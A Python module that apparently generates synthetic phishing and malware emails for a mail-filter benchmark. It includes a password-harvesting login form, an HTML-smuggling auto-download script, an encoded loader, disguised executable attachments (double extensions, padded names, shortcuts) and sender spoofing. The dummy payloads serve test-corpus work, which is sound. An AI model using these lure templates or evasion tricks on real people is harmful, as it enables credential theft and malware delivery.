"""Harmful mail after passwords, cards and machines: lures with a link, a QR code, a page as attachment, a program."""

from __future__ import annotations

import base64
import random

from bench.world import attackers, papers
from bench.world.blocks import Block, blocks
from bench.world.cast import Cast
from bench.world.clients import BY_NAME
from bench.world.draft import Draft, letter, notice
from bench.world.evasions import evade
from bench.world.family import Builder, Family, Texts
from bench.world.names import Person, company
from bench.world.notices import FOOTERS
from bench.world.papers import File
from bench.world.people import MIMES, US, signature
from bench.world.route import esp, forged, personal, served, token
from bench.world.texts.lures_en import EN
from bench.world.texts.lures_more import MORE
from bench.world.texts.lures_zh import ZH

HELP = {
    "en": "{IT Support|Mail Administrator|<usdomain>|Webmail Team|Helpdesk|System Administrator|<usshort> IT|Mail Delivery System}",
    "zh": "{系统管理员|邮箱管理员|信息中心|IT支持|网络安全部|邮件系统|<usshort>信息部}",
    "ja": "{メール管理者|システム管理部}",
    "es": "{Administrador de correo|Soporte <usdomain>}",
    "de": "{IT-Support|Mail-Administrator <usdomain>}",
    "fr": "{Support messagerie|Administrateur <usdomain>}",
    "pt": "{Suporte|Administrador <usdomain>}",
    "it": "{Assistenza posta|<usdomain>}",
    "nl": "{Helpdesk|<usdomain>}",
}
OFFICE = {"en": "{HR Department|Human Resources|Payroll}", "zh": "{财务部|人力资源部|人事行政部|公司财务|劳动保障中心}"}
MAILBOX = {"phish_quota", "phish_password", "phish_qr", "phish_subsidy"}
FORM = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title><style>body{{font-family:Segoe UI,Arial;background:#f2f2f2}}.box{{width:340px;margin:60px auto;background:#fff;padding:30px;box-shadow:0 1px 6px #999}}</style></head><body><div class="box"><h3>{title}</h3><p>{text}</p><form method="post" action="{action}"><input type="email" name="u" value="{victim}" readonly><br><br><input type="password" name="p" placeholder="Password" required><br><br><button type="submit">{button}</button></form></div></body></html>"""
SMUGGLE = """<html><head><meta charset="utf-8"></head><body><p>{text}</p><script>var d=atob("{data}");var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var b=new Blob([a],{{type:"application/octet-stream"}});var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="{name}";document.body.appendChild(l);l.click();</script></body></html>"""
LOADER = """<script>var e="{victim}";document.write(unescape("{code}"));</script><noscript>{text}</noscript>"""


def page(cast: Cast, brand: str) -> File:
    """An HTML attachment: a form, a script that writes one, or one that makes a file."""
    chance, target = cast.chance, attackers.link(cast.chance, brand, cast.me.address)
    title = cast.say(
        {"zh": "{登录查看|邮箱登录|安全验证}"}.get(
            cast.language, "{Sign in to view|Session expired|Adobe PDF Online|Excel Online|Verify your identity}"
        )
    )
    form = FORM.format(
        title=title,
        text=cast.say(
            {"zh": "{请输入邮箱密码|会话已过期，请重新登录}"}.get(
                cast.language, "{Enter your email password to view the document|Your session expired, sign in again}"
            )
        ),
        action=target,
        victim=cast.me.address,
        button=cast.say({"zh": "{登录|查看}"}.get(cast.language, "{View|Sign in|Next}")),
    )
    way = chance.random()
    if way < 0.2:
        form = LOADER.format(victim=cast.me.address, code="".join(f"%{one:02x}" for one in form.encode()), text=title)
    elif way < 0.35:
        form = SMUGGLE.format(
            text=title,
            data=base64.b64encode(papers.packed("document.js", b"// nothing" * 20)).decode(),
            name="document.zip",
        )
    elif way < 0.45:
        form = f'<html><head><meta http-equiv="refresh" content="0;url={target}"></head><body>{title}</body></html>'
    name = cast.say(
        {"zh": "{合同|对账单|订单|付款水单|发票}<ref>.{html|htm|shtml}"}.get(
            cast.language,
            "{Invoice|PO|Payment|Statement|Scan|Remittance|VM_0}{_|-|}<ref>.{html|htm|shtml|pdf.html|xlsx.htm}",
        )
    )
    return File(name, chance.choice(("text/html", "text/html", "application/octet-stream")), form.encode())


def program(cast: Cast) -> File:
    """An attachment that would run: packed, with a password, with two endings, a disc image, a shortcut, a script."""
    chance = cast.chance
    stem = cast.say(
        {"zh": "{发票|名单|采购清单|税务稽查名单|图纸|投诉材料}{<ref>|（最新）|}"}.get(
            cast.language, "{Invoice|Shipping_Documents|PO|RFQ|Payment_Swift|BL_Draft|CV|Court_Notice}_<ref>"
        )
    )
    made = papers.program(chance)
    script = chance.choice(("js", "vbs", "hta", "bat", "wsf"))
    forms = (
        lambda: File(f"{stem}.zip", "application/zip", papers.packed(f"{stem}.exe", made)),
        lambda: File(
            f"{stem}.zip",
            "application/x-zip-compressed",
            papers.packed(f"{stem}.{chance.choice(('js', 'exe', 'vbs', 'lnk'))}", made, encrypted=True),
        ),
        lambda: File(f"{stem}.pdf.exe", "application/octet-stream", made),
        lambda: File(f"{stem}.iso", "application/octet-stream", papers.disc("INVOICE.EXE")),
        lambda: File(
            f"{stem}.zip",
            "application/zip",
            papers.packed(f"{stem}.pdf.lnk", papers.shortcut("cmd /c start document.pdf")),
        ),
        lambda: File(
            f"{stem}.{script}",
            "application/octet-stream",
            b"// an empty script\r\n" + chance.randbytes(60).hex().encode(),
        ),
        lambda: File(
            f"{stem}.{chance.choice(('xlsm', 'docm'))}",
            "application/vnd.ms-excel.sheet.macroEnabled.12",
            papers.packed("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500)),
        ),
        lambda: File(
            f"{stem}.{chance.choice(('r00', 'rar', '7z', 'gz', 'ace'))}",
            "application/octet-stream",
            b"Rar!\x1a\x07\x01\x00" + chance.randbytes(700),
        ),
        lambda: File(f"{stem}{' ' * 30}.scr", "application/octet-stream", made),
    )
    return chance.choice(forms)()


def _placed(cast: Cast, draft: Draft, body: str, brand: str) -> list[Block]:
    """The blocks of a lure, with its QR code, page or program."""
    chance = cast.chance
    out: list[Block] = []
    for piece in blocks(body):
        if piece.kind != "at":
            out.append(piece)
        elif piece.text == "qr":
            code = papers.qr(attackers.link(chance, brand, cast.me.address))
            way = chance.random()
            if way < 0.55:
                shown = File("qr.png", "image/png", code, inline=token(chance, 8) + "@qr")
                draft.files.append(shown)
                out.append(Block("img", "QR", link="cid:" + shown.inline))
                draft.only = "html"
            elif way < 0.75:
                name = cast.say({"zh": "{补贴|通知|申领说明}{<ref>|}"}.get(cast.language, "{document|notice}_<ref>"))
                draft.files.append(
                    File(
                        f"{name}.docx",
                        MIMES["docx"],
                        papers.docx(
                            [f"# {draft.subject}", cast.say(body.split("\n\n", maxsplit=1)[0]), cast.gap("today")],
                            chance,
                        ),
                    )
                )
                draft.files.append(File("code.png", "image/png", code))
            else:
                draft.files.append(File(f"{token(chance, 6)}.png", "image/png", code))
        elif piece.text == "html":
            draft.files.append(page(cast, brand))
        elif piece.text == "malware":
            draft.files.append(program(cast))
    return out


def lure(name: str) -> Builder:
    """Lures of one family."""

    def build(chance: random.Random, language: str, template: str) -> tuple[Draft, bytes]:
        us = chance.choice(US.get(language, US["en"]) if language != "en" or chance.random() < 0.65 else US["zh"])
        cast = Cast(chance, language, us, company(chance, language))
        brand = attackers.imitated(chance, name, language)
        cast.said |= {"brand": brand, "brandname": brand}
        if name == "phish_bank":
            cast.said["small"] = cast.money(
                round(chance.uniform(40, 1900), 2),
                {"en": "GBP", "ja": "JPY", "zh": "CNY", "pt": "BRL"}.get(language, "EUR"),
            )
        shown = (
            cast.say(HELP.get(language, HELP["en"]))
            if name in MAILBOX or (name == "phish_voicemail" and chance.random() < 0.4)
            else brand
        )
        if name == "phish_subsidy" or (name == "phish_qr" and chance.random() < 0.4):
            shown = cast.say(OFFICE.get(language, OFFICE["en"]))
        who, route = attackers.sender(chance, shown, us, language, inside=1 if name in MAILBOX else 0)
        business = name in {"malware", "phish_attachment"} or (name == "phish_document" and chance.random() < 0.5)
        if business:
            address = cast.they.address if chance.random() < 0.6 else f"{ascii_name(cast)}@{attackers.domain(chance)}"
            who, route = (
                Person(cast.they.name, address),
                personal(chance, address) if chance.random() < 0.75 else forged(chance, address),
            )
        subject, _, body = cast.say(template).partition("\n")
        draft = Draft(cast, subject.strip(), [], who, route=route, name=brand if name not in MAILBOX else "")
        draft.links = {"main": attackers.link(chance, brand, cast.me.address)}
        draft.pieces = _placed(cast, draft, body, brand)
        draft.tracked = False
        if (
            name in {"phish_document", "phish_parcel", "phish_tax", "phish_voicemail", "phish_password"}
            and chance.random() < 0.18
        ):
            _as_pdf(cast, draft)
        draft.hidden_receivers = chance.random() < 0.08
        if chance.random() < 0.12:
            draft.reply_to = f"{token(chance, 8).lower()}@{attackers.domain(chance)}"
        if chance.random() < 0.2:
            draft.headers.append(("X-Priority", chance.choice(("1", "1 (Highest)"))))
        if business:
            draft.signature = signature(cast, cast.they, cast.them)
            evade(cast, draft, often=0.2)
            return draft, letter(draft)
        return draft, _sent(cast, draft)

    return build


def _as_pdf(cast: Cast, draft: Draft) -> None:
    """The lure stands in a PDF whose button is the link; the mail only points to it."""
    chance = cast.chance
    content: list[str | tuple[str, ...]] = []
    for piece in draft.pieces:
        content += (
            [piece.cells]
            if piece.kind == "row"
            else [line[at : at + 88] for line in piece.text.split("\n") for at in range(0, max(1, len(line)), 88)]
        )
    name = cast.say({"zh": "{通知|文件|发票}<ref>"}.get(cast.language, "{Document|Notice|Invoice|Statement}_<ref>"))
    draft.files.append(
        File(f"{name}.pdf", "application/pdf", papers.pdf(content, chance, title=name, links=(draft.links["main"],)))
    )
    draft.pieces = blocks(
        cast.say(
            {
                "zh": "{您好，|}{请查看附件|详情见附件}。",
                "de": "{Siehe Anhang.|Bitte beachten Sie den Anhang.}",
                "es": "{Vea el adjunto.|Adjunto documento.}",
                "fr": "{Voir pièce jointe.|Veuillez consulter le document joint.}",
            }.get(
                cast.language,
                "{Hello,|}\n\n{Please see the attached document.|Your document is attached.|See attachment for details.}",
            )
        )
    )


def ascii_name(cast: Cast) -> str:
    """The part of the sender's address before the @."""
    return cast.they.address.partition("@")[0]


def _sent(cast: Cast, draft: Draft) -> bytes:
    """As a service's notice would look, or as somebody's letter."""
    chance = cast.chance
    if chance.random() < 0.18:
        draft.headers += [
            ("List-Unsubscribe", f"<https://{draft.sender.domain}/u/{token(chance, 12)}>"),
            ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ][: chance.choice((1, 2, 2))]
    if chance.random() < 0.14:
        draft.headers.append(
            chance.choice(
                (
                    ("Precedence", "bulk"),
                    ("Auto-Submitted", "auto-generated"),
                    ("Feedback-ID", f"{token(chance, 8)}:{token(chance, 6)}:sg"),
                )
            )
        )
    if chance.random() < 0.5:
        cast.said["myaddress"] = cast.me.address
        foot = cast.say(FOOTERS.get(cast.language, FOOTERS["en"]))
        draft.footer = foot.replace("[UNSUB]", "").strip()
    draft.only = draft.only or chance.choices(("", "html"), (40, 60))[0]
    evade(cast, draft)
    if chance.random() < 0.8:
        return notice(draft)
    if chance.random() < 0.5:
        draft.program = BY_NAME["phpmailer"]
    if chance.random() < 0.1:
        draft.route = served(chance, draft.sender.address, esp(chance, draft.sender.domain, cast.language))
    return letter(draft)


def texts_of(name: str) -> Texts:
    """Templates of a family in all languages."""
    found = {"en": EN.get(name, ()), "zh": ZH.get(name, ())}
    found |= {language: table[name] for language, table in MORE.items() if name in table}
    return {language: rows for language, rows in found.items() if rows}


WEIGHTS = {
    "phish_quota": 5,
    "phish_password": 6,
    "phish_document": 6,
    "phish_voicemail": 3,
    "phish_parcel": 5,
    "phish_bank": 5,
    "phish_streaming": 4,
    "phish_tax": 4,
    "phish_wallet": 3,
    "phish_qr": 3,
    "phish_subsidy": 5,
    "phish_attachment": 4,
    "malware": 5,
}
FAMILIES = tuple(Family(name, "phish", weight, texts_of(name), lure(name)) for name, weight in WEIGHTS.items())
